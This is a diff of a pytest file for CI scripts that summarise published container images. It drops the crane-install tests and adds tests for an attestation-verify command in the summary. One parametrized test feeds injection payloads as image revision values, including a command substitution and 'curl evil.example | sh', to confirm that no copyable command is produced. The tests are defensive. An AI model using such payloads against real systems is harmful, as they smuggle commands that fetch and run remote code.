@@ -1,18 +1,15 @@
-"""require-ref.sh, copy-if-absent.sh, install-crane.sh, summarise-images.sh."""
+"""require-ref.sh, copy-if-absent.sh, summarise-images.sh."""
 
 from __future__ import annotations
 
-from pathlib import Path
+import shlex
 from typing import TYPE_CHECKING
 
 import pytest
 
-from rehearsal.fakes.downloads import Downloads
 from rehearsal.http.faults import Fault
 
 if TYPE_CHECKING:
-    from collections.abc import Iterator
-
     from tests.scripts.steps import Outcome, Steps
 
 
@@ -60,35 +57,6 @@ def test_copy_if_absent_stops_when_a_path_is_a_link(steps: Steps, through: bool)
     assert elsewhere.exists() != through
 
 
-@pytest.fixture
-def downloads() -> Iterator[Downloads]:
-    with Downloads() as server:
-        yield server
-
-
-def test_install_crane_verifies_crane_and_adds_it_to_the_path(steps: Steps, downloads: Downloads) -> None:
-    pin = downloads.crane()
-    downloads.faults.add(Fault("", status=503))
-    done = steps.run("install-crane", CRANE_URL=pin.url, CRANE_SHA256=pin.sha256)
-    assert done.code == 0, done.log
-    assert [file.name for file in Path(done.path.strip()).iterdir()] == ["crane"]
-    assert done.slept == [1]
-
-
-def test_install_crane_unpacks_nothing_when_the_checksum_differs(steps: Steps, downloads: Downloads) -> None:
-    pin = downloads.crane()
-    done = steps.run("install-crane", CRANE_URL=pin.url, CRANE_SHA256="0" * 64)
-    assert done.code == 1
-    assert pin.sha256 in done.errors[0]
-    assert done.path == ""
-    assert len(downloads.log) == 4
-
-
-def test_install_crane_stops_on_another_architecture(steps: Steps) -> None:
-    done = steps.run("install-crane", CRANE_URL="http://127.0.0.1:1", CRANE_SHA256="0" * 64, RUNNER_ARCH="ARM64")
-    assert "ARM64" in done.errors[0]
-
-
 def summarise(steps: Steps) -> Outcome:
     return steps.run("summarise-images", VERSION="1.2.3-staging.1", FLOATING_TAG="staging")
 
@@ -102,6 +70,37 @@ def test_summary_lists_all_images_when_all_are_published(steps: Steps) -> None:
     assert f"{len(steps.images)} of {len(steps.images)} are published" in done.summary
     assert f"| api | `{seeded['api']}` | this version |" in done.summary
     assert f"docker pull {steps.registry.address}/podverse/metaboost/web:1.2.3-staging.1\n" in done.summary
+
+
+def test_summary_has_the_command_that_verifies_an_image(steps: Steps) -> None:
+    seeded = steps.seed("1.2.3-staging.1", images=["web"])
+    done = summarise(steps)
+    command = done.summary.partition("Verify an image")[2].partition("```bash\n")[2].partition("\n```")[0]
+    assert shlex.split(command.replace("\\\n", "")) == [
+        *("gh", "attestation", "verify", f"oci://{steps.registry.address}/podverse/metaboost/web@{seeded['web']}"),
+        *("--repo", "Podverse/Metaboost", "--signer-workflow", "Podverse/Metaboost/.github/workflows/publish-staging.yml"),
+        *("--source-digest", steps.sha, "--deny-self-hosted-runners", "--limit", "1000"),
+    ]
+
+
+def test_summary_has_no_command_when_the_product_has_no_attestations(steps: Steps) -> None:
+    steps.seed("1.2.3-staging.1")
+    steps.env = {"SIGNER_WORKFLOW": ""}
+    done = summarise(steps)
+    assert done.code == 0, done.log
+    assert "docker pull" in done.summary
+    assert "Verify" not in done.summary
+    assert "gh attestation" not in done.summary
+
+
+@pytest.mark.parametrize("revision", ["$(touch $RECORDS/pwned)", "a; curl evil.example | sh", "", "-x", "A" * 40])
+def test_summary_has_no_command_when_the_revision_is_no_commit(steps: Steps, revision: str) -> None:
+    """People copy that command."""
+    steps.registry.seed(steps.package("api"), "1.2.3-staging.1", revision=revision, version="1.2.3-staging.1")
+    done = summarise(steps)
+    assert done.code == 0, done.log
+    assert "docker pull" in done.summary
+    assert "gh attestation" not in done.summary
 
 
 def test_summary_shows_what_is_missing_when_half_is_published(steps: Steps) -> None:
